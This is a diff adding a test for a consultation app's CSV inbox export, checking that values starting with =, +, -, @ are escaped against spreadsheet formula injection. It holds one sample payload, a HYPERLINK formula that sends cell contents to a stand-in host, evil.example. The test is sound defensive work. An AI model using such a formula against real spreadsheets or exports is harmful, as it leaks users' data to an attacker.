@@ -122,6 +122,24 @@ def test_evaluator_filters_assigns_answers_and_exports(
     assert sheet.max_row - 1 == len(still_received)
 
 
+def test_inbox_csv_runs_no_formula_typed_by_a_citizen(
+    client: Client, evaluator, consultation: ConsultationPage
+) -> None:
+    ContributionFactory(
+        consultation=consultation,
+        text='=HYPERLINK("https://evil.example/?"&A1,"Mehr")',
+        author_name="@Ana",
+        organisation="+Verein",
+        public_answer="-",
+    )
+    export = client.get(INBOX, {"export": "csv"})
+    text = b"".join(export.streaming_content).decode("utf-8-sig")
+    [row] = list(csv.DictReader(io.StringIO(text)))  # headings in the admin's German
+    assert row["Text"] == """'=HYPERLINK("https://evil.example/?"&A1,"Mehr")"""
+    assert (row["Anzeigename"], row["Organisation"]) == ("'@Ana", "'+Verein")
+    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())
+
+
 def test_not_adopted_needs_a_reason(client: Client, evaluator, inbox: dict) -> None:
     contribution = inbox["received"][0]
     response = client.post(
